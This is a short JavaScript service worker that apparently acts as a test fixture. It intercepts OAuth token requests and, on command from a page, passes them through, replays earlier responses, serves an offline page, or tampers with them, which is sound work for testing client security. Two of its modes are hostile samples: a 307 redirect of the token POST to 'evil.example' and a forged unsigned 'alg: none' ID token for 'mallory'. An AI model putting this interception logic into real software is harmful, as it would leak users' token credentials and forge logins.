// A service worker of an application that answers in the place of the token endpoint. A page tells it how, and learns what it
// has seen, by a request to /meddle?how=...
const scope = /** @type {any} */ (globalThis);
let how = 'pass';
/** The first answer of the server. @type {Response | undefined} */
let first;
/** What was special about the requests. @type {object[]} */
const seen = [];

/** What it says instead of what the server does. @type {Record<string, () => Response>} */
const ANSWERS = {
  replay: () => /** @type {Response} */ (first).clone(),
  page: () => new Response('<!doctype html><title>Offline</title>', { headers: { 'content-type': 'text/html' } }),
  redirect: () => Response.redirect('https://evil.example/token', 307),
  unsigned() {
    const part = (/** @type {object} */ value) => btoa(JSON.stringify(value)).replace(/=+$/, '');
    return Response.json({ access_token: 'forged', token_type: 'Bearer', expires_in: 3600, id_token: `${part({ alg: 'none' })}.${part({ sub: 'mallory' })}.` });
  },
};

scope.addEventListener('install', () => scope.skipWaiting());
scope.addEventListener('activate', (/** @type {any} */ event) => event.waitUntil(scope.clients.claim()));
scope.addEventListener('fetch', (/** @type {any} */ event) => {
  const { request } = event;
  const { pathname, searchParams } = new URL(request.url);
  if (pathname === '/meddle') {
    how = searchParams.get('how') ?? how;
    event.respondWith(Response.json(seen));
  } else if (request.method === 'POST' && pathname.endsWith('/token')) event.respondWith(answer(request));
});

/** @param {Request} request */
async function answer(request) {
  const { cache, credentials, redirect, referrer } = request;
  seen.push({ cache, credentials, redirect, referrer });
  if (ANSWERS[how]) return ANSWERS[how]();
  const response = await fetch(request);
  first ??= response.clone();
  return response;
}
